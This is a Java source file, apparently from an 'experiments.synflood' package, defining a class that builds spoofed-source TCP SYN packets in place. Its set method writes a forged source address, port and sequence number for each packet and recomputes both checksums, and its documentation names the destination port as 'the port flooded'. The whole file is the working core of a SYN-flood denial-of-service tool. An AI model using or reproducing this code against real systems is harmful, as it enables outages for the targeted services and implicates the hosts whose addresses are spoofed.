package io.tcpstack.experiments.synflood;

import static java.nio.ByteOrder.BIG_ENDIAN;

import org.agrona.MutableDirectBuffer;

import io.tcpstack.wire.Checksum;
import io.tcpstack.wire.Ipv4Header;

/**
 * A spoofed-source TCP SYN, built in place: an IPv4 header (RFC 791, no options, DF set,
 * TTL 64), a TCP header (RFC 9293 §3.1) with SYN and one MSS option (kind 2, length 4).
 * Per packet only the source address, source port, sequence number and IP identification
 * change; {@link #set} writes them and both checksums, and allocates nothing.
 *
 * <pre>
 *   0  IPv4: 45 00 | total length 44 | id | 40 00 (DF) | ttl 64 | proto 6 | checksum
 *  12        source (spoofed) | destination
 *  20  TCP: source port | destination port | seq | ack 0
 *  32        data offset 6 (24 bytes) | flags SYN | window | checksum | urgent 0
 *  40        02 04 MSS
 *  44  (end)
 * </pre>
 *
 * <p>One instance per sending thread.
 */
public final class SynPacket {
    /** Bytes of the whole datagram. */
    public static final int LENGTH = 44;
    static final int IP_LENGTH = 20;
    static final int TCP_LENGTH = 24;
    static final int WINDOW = 64240; // what Linux advertises in its SYNs
    static final int TTL = 64;

    private static final int IP_ID = 4;
    private static final int IP_CHECKSUM = 10;
    private static final int IP_SOURCE = 12;
    private static final int TCP_SOURCE_PORT = IP_LENGTH;
    private static final int TCP_SEQ = IP_LENGTH + 4;
    private static final int TCP_CHECKSUM = IP_LENGTH + 16;

    private final MutableDirectBuffer buffer;
    private final int at;
    private final int destination;

    /**
     * Writes the fixed fields at {@code offset} of {@code buffer} ({@link #LENGTH} bytes).
     *
     * @param destination     the target's address, big-endian int
     * @param destinationPort the port flooded
     * @param mss             the MSS option's value
     */
    public SynPacket(final MutableDirectBuffer buffer, final int offset, final int destination,
        final int destinationPort, final int mss) {
        this.buffer = buffer;
        this.at = offset;
        this.destination = destination;
        final Ipv4Header ip = new Ipv4Header().wrap(buffer, offset);
        ip.versionAndMinimalIhl().tos(0).totalLength(LENGTH).identification(0)
            .flagsAndFragment(Ipv4Header.FLAG_DF).ttl(TTL).protocol(Ipv4Header.PROTO_TCP).checksum(0)
            .source(0).destination(destination);
        final int t = offset + IP_LENGTH;
        buffer.putShort(t, (short) 0, BIG_ENDIAN);
        buffer.putShort(t + 2, (short) destinationPort, BIG_ENDIAN);
        buffer.putInt(t + 4, 0, BIG_ENDIAN);
        buffer.putInt(t + 8, 0, BIG_ENDIAN);
        buffer.putByte(t + 12, (byte) ((TCP_LENGTH / 4) << 4));
        buffer.putByte(t + 13, (byte) 0x02); // SYN
        buffer.putShort(t + 14, (short) WINDOW, BIG_ENDIAN);
        buffer.putShort(t + 16, (short) 0, BIG_ENDIAN);
        buffer.putShort(t + 18, (short) 0, BIG_ENDIAN);
        buffer.putByte(t + 20, (byte) 2);
        buffer.putByte(t + 21, (byte) 4);
        buffer.putShort(t + 22, (short) mss, BIG_ENDIAN);
    }

    /** Sets the per-packet fields and recomputes both checksums. */
    public void set(final int source, final int sourcePort, final int seq, final int identification) {
        buffer.putShort(at + IP_ID, (short) identification, BIG_ENDIAN);
        buffer.putInt(at + IP_SOURCE, source, BIG_ENDIAN);
        buffer.putShort(at + IP_CHECKSUM, (short) 0, BIG_ENDIAN);
        buffer.putShort(at + IP_CHECKSUM, (short) Checksum.compute(buffer, at, IP_LENGTH), BIG_ENDIAN);
        buffer.putShort(at + TCP_SOURCE_PORT, (short) sourcePort, BIG_ENDIAN);
        buffer.putInt(at + TCP_SEQ, seq, BIG_ENDIAN);
        buffer.putShort(at + TCP_CHECKSUM, (short) 0, BIG_ENDIAN);
        final long pseudo = Ipv4Header.pseudoHeaderSum(source, destination, Ipv4Header.PROTO_TCP, TCP_LENGTH);
        buffer.putShort(at + TCP_CHECKSUM,
            (short) Checksum.finish(Checksum.sum(buffer, at + IP_LENGTH, TCP_LENGTH, pseudo)), BIG_ENDIAN);
    }

    public MutableDirectBuffer buffer() {
        return buffer;
    }

    public int offset() {
        return at;
    }
}
